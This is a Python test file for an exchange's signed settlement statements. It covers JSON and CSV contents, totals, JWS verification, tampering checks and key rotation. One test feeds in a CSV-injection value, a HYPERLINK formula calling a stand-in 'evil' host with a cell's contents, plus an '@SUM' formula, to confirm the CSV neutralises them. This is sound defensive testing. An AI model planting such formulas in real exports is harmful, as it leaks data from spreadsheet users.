"""Statements: what they show, in JSON and CSV, and a JWS any holder of the published statement
keys can verify, for as long as statements are kept, whatever keys were rotated since."""

from __future__ import annotations

import base64
import csv
import io
import json
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from joserfc import jws
from joserfc.errors import BadSignatureError, InvalidKeyIdError, JoseError
from joserfc.jwk import KeySet
from sqlalchemy import text
from sqlmodel import select

from exchange.auth import keys as token_keys
from exchange.db.database import Database
from exchange.errors import ConfigurationError
from exchange.keyring.cache import KEY_REFRESH
from exchange.keyring.crypto import decrypt_private_key
from exchange.ledger.errors import PeriodNotClosed
from exchange.ledger.periods import PeriodStatus
from exchange.ledger.posting import Leg, TransactionRequest
from exchange.services.settlement import SettlementService
from exchange.settlement.errors import NoSuchParticipant
from exchange.settlement.keys import PUBLICATION_LEAD, StatementKeys, years_after
from exchange.settlement.models import StatementKey
from exchange.settlement.participants import EXCHANGE
from exchange.testing.clock import FrozenClock
from tests.integration.settlement.conftest import (
    CHART,
    ISSUER,
    RETENTION_YEARS,
    SECRET,
    close,
    conversion,
    post,
    ready_service,
    redemption,
    served,
)


@pytest.fixture
async def november(settlement: SettlementService, clock: FrozenClock) -> SettlementService:
    """October: wallet-pay owed fresh-mart 5.00; November: the lines below."""
    await post(settlement, [conversion("october", "wallet-pay", "fresh-mart", 500, at=clock.now().replace(month=10))])
    await close(settlement, clock, "2026-10")
    await post(
        settlement,
        [
            conversion("c1", "fresh-mart", "wallet-pay", 10_000, fee=200),
            redemption("r1", "wallet-pay", "fresh-mart", 2_500, fee=25),
            conversion("c2", "formosa-air", "fresh-mart", 1_234, fee=12),
        ],
    )
    clock.current = clock.current.replace(year=2026, month=11, day=20)
    await close(settlement, clock, "2026-11")
    return settlement


async def test_a_statement_shows_opening_lines_by_counterparty_and_closing(november: SettlementService) -> None:
    statement = await served(november, "fresh-mart", "2026-11")
    document = json.loads(statement.json())
    assert document["partner"] == "fresh-mart" and document["currency"] == "TWD"
    assert document["period"] == {
        "name": "2026-11",
        "start": "2026-10-31T16:00:00Z",
        "end": "2026-11-30T16:00:00Z",
        "timeZone": "Asia/Taipei",
        "closedAt": document["period"]["closedAt"],
    }
    assert document["openingPosition"] == "5.00"
    assert [
        (line["reference"], line["category"], line["counterparty"], line["amount"]) for line in document["lines"]
    ] == [
        ("conversion:c1", "conversion", "wallet-pay", "-98.00"),
        ("conversion:c1", "fee", EXCHANGE, "-2.00"),
        ("redemption:r1", "redemption", "wallet-pay", "24.75"),
        ("conversion:c2", "conversion", "formosa-air", "12.22"),
    ]
    assert document["counterparties"] == [
        {"counterparty": EXCHANGE, "payable": "2.00", "receivable": "0.00", "net": "-2.00"},
        {"counterparty": "formosa-air", "payable": "0.00", "receivable": "12.22", "net": "12.22"},
        {"counterparty": "wallet-pay", "payable": "98.00", "receivable": "24.75", "net": "-73.25"},
    ]
    assert document["totals"] == {"payable": "100.00", "receivable": "36.97", "net": "-63.03"}
    assert document["closingPosition"] == "-58.03"
    assert sum(line.amount for line in statement.lines) == statement.net


async def test_the_exchange_has_a_statement_of_the_fees_it_is_owed(november: SettlementService) -> None:
    statement = await served(november, EXCHANGE, "2026-11")
    assert [(line.reference, line.category, line.counterparty, line.amount) for line in statement.lines] == [
        ("conversion:c1", "fee", "fresh-mart", 200),
        ("redemption:r1", "fee", "wallet-pay", 25),
        ("conversion:c2", "fee", "formosa-air", 12),
    ]
    assert (statement.opening, statement.net, statement.closing) == (0, 237, 237)


def document_of_csv(text: str) -> dict[str, Any]:
    """The statement's JSON document as read back from its CSV alone (less its type, version
    and issuer, which the CSV does not repeat). A cell beginning with ``'`` is a text the
    exchange neutralised for spreadsheets: exactly one ``'`` was added (partners/SETTLEMENT.md)."""
    rows = [
        {name: cell.removeprefix("'") for name, cell in row.items()}
        for row in csv.DictReader(io.StringIO(text, newline=""))
    ]
    first = rows[0]
    by_record: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        assert (row["partner"], row["period"], row["currency"]) == (
            first["partner"],
            first["period"],
            first["currency"],
        )
        assert (row["period_start"], row["period_end"], row["time_zone"]) == (
            first["period_start"],
            first["period_end"],
            first["time_zone"],
        )
        by_record.setdefault(row["record"], []).append(row)
    (opening,), (closing,), (closed,) = by_record.pop("opening"), by_record.pop("closing"), by_record.pop("closed")
    document: dict[str, Any] = {
        "partner": first["partner"],
        "currency": first["currency"],
        "period": {
            "name": first["period"],
            "start": first["period_start"],
            "end": first["period_end"],
            "timeZone": first["time_zone"],
            "closedAt": closed["effective_at"],
        },
        "openingPosition": opening["amount"],
        "lines": [
            {
                "transaction": row["transaction"],
                "reference": row["reference"],
                "kind": row["kind"],
                "category": row["category"],
                "effectiveAt": row["effective_at"],
                "effectivePeriod": row["effective_period"],
                "reverses": {"transaction": row["reverses"], "period": row["reverses_period"]}
                if row["reverses"]
                else None,
                "counterparty": row["counterparty"],
                "amount": row["amount"],
            }
            for row in by_record.pop("line", [])
        ],
        "counterparties": [
            {
                "counterparty": payable["counterparty"],
                "payable": payable["amount"],
                "receivable": receivable["amount"],
                "net": net["amount"],
            }
            for payable, receivable, net in zip(
                by_record.pop("counterparty_payable", []),
                by_record.pop("counterparty_receivable", []),
                by_record.pop("counterparty_net", []),
                strict=True,
            )
        ],
        "totals": {name: by_record.pop(name)[0]["amount"] for name in ("payable", "receivable", "net")},
        "closingPosition": closing["amount"],
    }
    if "coalition_liability" in by_record:
        (liability,), (value,) = by_record.pop("coalition_liability"), by_record.pop("coalition_point_value")
        document["coalitionLiability"] = {
            "program": liability["counterparty"],
            "points": int(liability["points"]),
            "pointValue": value["amount"],
            "amount": liability["amount"],
        }
    assert not by_record, f"records the JSON lacks: {sorted(by_record)}"
    return document


def assert_adds_up(document: dict[str, Any]) -> None:
    """A statement's totals add up: its lines to each counterparty's net and to the period's net,
    the counterparties' gross figures to the totals, the opening and the net to the closing."""
    totals = {name: Decimal(amount) for name, amount in document["totals"].items()}
    lines = [(line["counterparty"], Decimal(line["amount"])) for line in document["lines"]]
    assert sum(amount for _, amount in lines) == totals["net"] == totals["receivable"] - totals["payable"]
    for row in document["counterparties"]:
        net = Decimal(row["net"])
        assert (
            net
            == Decimal(row["receivable"]) - Decimal(row["payable"])
            == sum(amount for counterparty, amount in lines if counterparty == row["counterparty"])
        ), row
    for name in ("payable", "receivable", "net"):
        assert sum(Decimal(row[name]) for row in document["counterparties"]) == totals[name], name
    assert Decimal(document["openingPosition"]) + totals["net"] == Decimal(document["closingPosition"])


def document_without_signature_data(statement_json: str) -> dict[str, Any]:
    return {k: v for k, v in json.loads(statement_json).items() if k not in {"type", "version", "issuer"}}


async def test_the_csv_holds_the_same_records(november: SettlementService) -> None:
    statement = await served(november, "fresh-mart", "2026-11")
    text = statement.csv()
    assert (
        text.startswith("partner,period,currency,") and text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    )
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    by_counterparty = ["counterparty_payable", "counterparty_receivable", "counterparty_net"]
    assert [row["record"] for row in rows] == [
        "opening",
        *["line"] * 4,
        *by_counterparty * 3,
        *["payable", "receivable", "net", "closing"],
        *["coalition_liability", "coalition_point_value"],
        "closed",
    ]
    assert [(row["record"], row["amount"]) for row in rows if not row["counterparty"] or row["record"] == "line"] == [
        ("opening", "5.00"),
        ("line", "-98.00"),
        ("line", "-2.00"),
        ("line", "24.75"),
        ("line", "12.22"),
        ("payable", "100.00"),
        ("receivable", "36.97"),
        ("net", "-63.03"),
        ("closing", "-58.03"),
        ("closed", ""),
    ]
    assert rows[1]["effective_at"] == "2026-11-20T04:00:00Z" and rows[1]["transaction"] == "t-c1"
    assert (rows[0]["period_start"], rows[0]["period_end"], rows[0]["time_zone"]) == (
        "2026-10-31T16:00:00Z",
        "2026-11-30T16:00:00Z",
        "Asia/Taipei",
    )
    assert document_of_csv(text) == document_without_signature_data(statement.json())
    assert_adds_up(document_of_csv(text))


async def test_a_text_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_exact_in_the_signed_json(
    settlement: SettlementService, clock: FrozenClock
) -> None:
    hostile = '=HYPERLINK("http://evil/?"&A1,"click")'
    await post(
        settlement, [replace(redemption("r", "wallet-pay", "fresh-mart", 2_500), id="@SUM(1+1)", reference=hostile)]
    )
    await close(settlement, clock, "2026-11")
    statement = await served(settlement, "wallet-pay", "2026-11")
    text = statement.csv()
    (line,) = [row for row in csv.DictReader(io.StringIO(text, newline="")) if row["record"] == "line"]
    assert (line["transaction"], line["reference"], line["amount"]) == ("'@SUM(1+1)", "'" + hostile, "-25.00")
    assert document_of_csv(text) == document_without_signature_data(statement.json())
    signed = statement.jws
    verified = jws.deserialize_compact(signed, await published(settlement), algorithms=["RS256"])
    assert json.loads(verified.payload)["lines"][0]["reference"] == hostile


async def test_the_jws_verifies_with_the_published_keys_alone_and_carries_the_json(
    november: SettlementService,
) -> None:
    statement = await served(november, "fresh-mart", "2026-11")
    key = await november.signing_key()
    published = KeySet.import_key_set(await november.keys.jwks())
    verified = jws.deserialize_compact(statement.jws, published, algorithms=["RS256"])
    assert verified.payload.decode() == statement.json()
    assert verified.protected["kid"] == key.kid and verified.protected["typ"] == "settlement-statement+json"
    assert json.loads(verified.payload)["issuer"] == ISSUER


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


async def test_a_changed_figure_fails_verification(november: SettlementService) -> None:
    statement = await served(november, "fresh-mart", "2026-11")
    header, payload, signature = statement.jws.split(".")
    forged = _unb64(payload).replace(b'"closingPosition":"-58.03"', b'"closingPosition":"-58.04"')
    assert forged != _unb64(payload)
    with pytest.raises(BadSignatureError):
        jws.deserialize_compact(
            f"{header}.{_b64(forged)}.{signature}", KeySet.import_key_set(await november.keys.jwks())
        )


@pytest.mark.parametrize(
    ("part", "errors"), [(0, (JoseError, ValueError)), (1, BadSignatureError), (2, BadSignatureError)]
)
async def test_a_changed_byte_anywhere_fails_verification(
    november: SettlementService, part: int, errors: type[Exception] | tuple[type[Exception], ...]
) -> None:
    statement = await served(november, "fresh-mart", "2026-11")
    published = KeySet.import_key_set(await november.keys.jwks())
    pieces = statement.jws.split(".")
    for position in range(0, len(_unb64(pieces[part])), 7):
        raw = bytearray(_unb64(pieces[part]))
        raw[position] ^= 0x01
        changed = [*pieces[:part], _b64(bytes(raw)), *pieces[part + 1 :]]
        with pytest.raises(errors):
            jws.deserialize_compact(".".join(changed), published, algorithms=["RS256"])


async def test_the_same_period_gives_the_same_bytes(november: SettlementService) -> None:
    first, second = await served(november, "wallet-pay", "2026-11"), await served(november, "wallet-pay", "2026-11")
    assert (first.json(), first.csv(), first.jws) == (second.json(), second.csv(), second.jws)


async def test_only_closed_periods_and_participants_have_statements(november: SettlementService) -> None:
    with pytest.raises(PeriodNotClosed):
        await served(november, "fresh-mart", "2026-12")
    with pytest.raises(NoSuchParticipant):
        await served(november, "harbor-bank", "2026-11")


async def published(service: SettlementService) -> KeySet:
    """What /.well-known/statement-keys.json serves now."""
    return KeySet.import_key_set(await service.keys.jwks())


async def test_a_jws_signed_before_a_rotation_verifies_until_the_retention_period_ends(
    november: SettlementService, clock: FrozenClock
) -> None:
    statement = await served(november, "fresh-mart", "2026-11")
    before = statement.jws
    rotation = await november.rotate_key()
    assert rotation.retired is not None and [key.kid for key in rotation.published] == [
        rotation.new.kid,
        rotation.retired.kid,
    ]
    clock.advance(seconds=PUBLICATION_LEAD.total_seconds())
    await post(november, [conversion("d1", "fresh-mart", "wallet-pay", 700, at=clock.now())])
    december = await close(november, clock, "2026-12")
    assert december.status == PeriodStatus.CLOSED
    december_statement = await served(november, "fresh-mart", "2026-12")
    after = december_statement.jws
    assert jws.extract_compact(after.encode()).headers()["kid"] == rotation.new.kid
    # November's statement is still the one issued before the rotation, signed by the old key.
    assert (await served(november, "fresh-mart", "2026-11")).jws == before
    assert jws.extract_compact(before.encode()).headers()["kid"] == rotation.retired.kid
    assert jws.deserialize_compact(before, await published(november)).payload.decode() == statement.json()
    assert jws.deserialize_compact(after, await published(november)).payload.decode() == december_statement.json()

    until = november.keys.published_until(rotation.retired)
    retired_at = rotation.retired.retired_at
    assert retired_at is not None and until == (retired_at + KEY_REFRESH).replace(year=2026 + RETENTION_YEARS)
    clock.current = until - timedelta(seconds=1)
    assert jws.deserialize_compact(before, await published(november)).payload.decode() == statement.json()
    async with november.db.transaction() as session:
        assert [key.kid for key in await november.keys.published(session, until)] == [rotation.new.kid]
    clock.current = until + KEY_REFRESH  # by when every process has re-read its keys
    with pytest.raises(InvalidKeyIdError):
        jws.deserialize_compact(before, await published(november))
    assert jws.deserialize_compact(after, await published(november)).payload.decode() == december_statement.json()


async def test_every_process_signs_with_the_old_key_through_the_lead_and_switches_at_its_end(
    november: SettlementService, clock: FrozenClock
) -> None:
    other = StatementKeys(november.db, SECRET, clock, retention_years=RETENTION_YEARS)  # another gateway
    old = (await other.signing_key()).kid
    rotation = await november.rotate_key()
    assert rotation.new.signs_from == rotation.new.created_at + PUBLICATION_LEAD
    assert rotation.retired is not None and rotation.retired.retired_at == rotation.new.signs_from
    for moment in (KEY_REFRESH, PUBLICATION_LEAD - timedelta(seconds=1)):
        clock.current = rotation.new.created_at + moment
        assert (await other.signing_key()).kid == (await november.signing_key()).kid == old
        assert rotation.new.kid in {key["kid"] for key in (await other.jwks())["keys"]}
    clock.current = rotation.new.created_at + PUBLICATION_LEAD
    assert (await other.signing_key()).kid == (await november.signing_key()).kid == rotation.new.kid


async def test_the_first_statement_key_a_rotation_makes_signs_at_once(db: Database, clock: FrozenClock) -> None:
    """On a database no gateway has started on, `exchange keys rotate --statements` makes its
    first statement key: no key signs before it, so a lead would only refuse every closing for
    six minutes (saying to run the rotation just run)."""
    service = await ready_service(db, clock, statement_key=False)
    rotation = await service.rotate_key()
    assert rotation.retired is None and rotation.new.signs_from == rotation.new.created_at
    await post(service, [conversion("c1", "fresh-mart", "wallet-pay", 10_000, fee=200)])
    assert (await close(service, clock, "2026-11")).status == PeriodStatus.CLOSED
    signed = (await served(service, "fresh-mart", "2026-11")).jws
    assert jws.extract_compact(signed.encode()).headers()["kid"] == rotation.new.kid
    second = await service.rotate_key()
    assert second.new.signs_from == second.new.created_at + PUBLICATION_LEAD, "an old key signs: the lead holds"


async def test_a_longer_retention_keeps_keys_retired_earlier_published_longer(
    november: SettlementService, clock: FrozenClock
) -> None:
    """How long a retired key stays published follows the retention in force, not the one in
    force at its rotation: raising the setting later reaches back."""
    rotation = await november.rotate_key()
    assert rotation.retired is not None
    longer = StatementKeys(november.db, SECRET, clock, retention_years=RETENTION_YEARS + 3)
    clock.current = years_after(clock.now(), RETENTION_YEARS + 1)
    assert rotation.retired.kid not in {key["kid"] for key in (await november.keys.jwks())["keys"]}
    assert rotation.retired.kid in {key["kid"] for key in (await longer.jwks())["keys"]}


async def test_rotating_token_keys_leaves_the_statement_key_alone(
    november: SettlementService, clock: FrozenClock
) -> None:
    statement_kid = (await november.signing_key()).kid
    async with november.db.transaction() as session:
        await token_keys.ensure_active_key(session, SECRET, clock.now())
        rotation = await token_keys.rotate_signing_key(session, SECRET, clock.now(), timedelta(hours=1))
    clock.advance(seconds=KEY_REFRESH.total_seconds())
    assert (await november.signing_key()).kid == statement_kid
    assert rotation.retired is not None and statement_kid not in {rotation.new.kid, rotation.retired.kid}
    assert {key["kid"] for key in (await november.keys.jwks())["keys"]} == {statement_kid}


async def test_statement_keys_are_stored_encrypted_and_one_is_active(
    november: SettlementService, clock: FrozenClock
) -> None:
    async with november.db.transaction() as session:
        first = await november.keys.ensure_active(session)
        assert (await november.keys.ensure_active(session)).kid == first.kid
    assert '"d"' not in first.encrypted_private_key and "d" not in first.public_jwk
    assert decrypt_private_key(first, SECRET).kid == first.kid
    with pytest.raises(ConfigurationError, match="EXCHANGE_KEY_ENCRYPTION_SECRET"):
        decrypt_private_key(first, "another secret")
    await november.rotate_key()
    async with november.db.transaction() as session:
        states = sorted(row.state for row in (await session.exec(select(StatementKey))).all())
    assert states == ["active", "retired"]


async def test_a_closing_records_the_coalition_liability_and_every_statement_shows_it(
    settlement: SettlementService, clock: FrozenClock
) -> None:
    # 12,345 coalition points earned from FreshMart, 2,345 spent into WalletPay: 10,000 outstanding.
    await post(
        settlement,
        [conversion("earn", "fresh-mart", "coalition", 12_345), conversion("spend", "coalition", "wallet-pay", 2_345)],
    )
    report = await close(settlement, clock, "2026-11")
    liability = report.coalition_liability
    assert liability is not None
    assert (liability.program_id, liability.points, str(liability.point_value)) == ("coalition", 10_000, "1")
    assert liability.liability_minor == 10_000_00
    expected = {"program": "coalition", "points": 10_000, "pointValue": "1", "amount": "10000.00"}
    for partner in ("fresh-mart", "wallet-pay", "coalition"):
        statement = await served(settlement, partner, "2026-11")
        assert json.loads(statement.json())["coalitionLiability"] == expected
        assert document_of_csv(statement.csv()) == document_without_signature_data(statement.json())
        assert_adds_up(document_of_csv(statement.csv()))
    # Closing again changes nothing, a later closing carries the balance over.
    assert (await close(settlement, clock, "2026-11")).coalition_liability == liability
    assert (await close(settlement, clock, "2026-12")).coalition_liability.points == 10_000  # type: ignore[union-attr]


@pytest.mark.postgres_only
async def test_the_liability_closings_record_after_a_period_is_archived_still_counts_its_points(
    pg_settlement: SettlementService, clock: FrozenClock
) -> None:
    # November: 10,000 coalition points outstanding; signed off and archived, its entries leave the ledger.
    await post(pg_settlement, [conversion("earn", "fresh-mart", "coalition", 12_345)])
    await post(pg_settlement, [conversion("spend", "coalition", "wallet-pay", 2_345)])
    await close(pg_settlement, clock, "2026-11")
    async with pg_settlement.db.transaction() as session:
        await session.exec(text("UPDATE settlement_position SET signed_off_at = now()"))  # type: ignore[call-overload]
    await pg_settlement.archive("2026-11", export=None)
    # December: 500 more earned.
    await post(pg_settlement, [conversion("more", "wallet-pay", "coalition", 500, at=clock.now() + timedelta(days=15))])
    december = await close(pg_settlement, clock, "2026-12")
    assert december.coalition_liability is not None
    assert (december.coalition_liability.points, december.coalition_liability.liability_minor) == (10_500, 10_500_00)
    statement = json.loads((await served(pg_settlement, "fresh-mart", "2026-12")).json())
    assert statement["coalitionLiability"]["points"] == 10_500


async def test_the_exchange_statement_shows_the_breakage_it_keeps(
    settlement: SettlementService, clock: FrozenClock
) -> None:
    """Where the operator keeps breakage, expired coalition points' value is the exchange's too:
    its statement lists it as a line, and its lines add up to its position."""
    lapsed = TransactionRequest(
        id="t-lapse",
        kind="coalition-expiry",
        reference="coalition-expiry:1",
        effective_at=clock.now(),
        legs=(
            Leg(CHART.member_points("coalition"), -30),
            Leg(CHART.expired("coalition"), 30),
            Leg(CHART.clearing("coalition"), -3_000),
            Leg(CHART.breakage(), 3_000),
        ),
    )
    await post(settlement, [conversion("earn", "fresh-mart", "coalition", 10_000, fee=200), lapsed])
    await close(settlement, clock, "2026-11")
    statement = await served(settlement, EXCHANGE, "2026-11")
    assert [(line.reference, line.category, line.counterparty, line.amount) for line in statement.lines] == [
        ("conversion:earn", "fee", "fresh-mart", 200),
        ("coalition-expiry:1", "coalition-expiry", "coalition", 3_000),
    ]
    assert (statement.receivable, statement.net) == (3_200, 3_200)
    assert_adds_up(json.loads(statement.json()))
    coalition = await served(settlement, "coalition", "2026-11")
    assert [(line.reference, line.category, line.counterparty, line.amount) for line in coalition.lines][-1] == (
        "coalition-expiry:1",
        "coalition-expiry",
        EXCHANGE,
        -3_000,
    )


async def test_a_period_closed_without_postings_has_no_participant_rather_than_being_open(
    november: SettlementService,
) -> None:
    """September had no postings and lies before the closed October: it counts as closed (as the
    period's own report says), so asking for a partner there finds no participant."""
    assert (await november.period("2026-09")).status is PeriodStatus.CLOSED
    with pytest.raises(NoSuchParticipant):
        await served(november, "fresh-mart", "2026-09")
    with pytest.raises(NoSuchParticipant):
        await november.import_records("fresh-mart", "2026-09", io.BytesIO(b"reference,amount\n"), by="fresh-mart")
    with pytest.raises(PeriodNotClosed):
        await served(november, "fresh-mart", "2026-12")
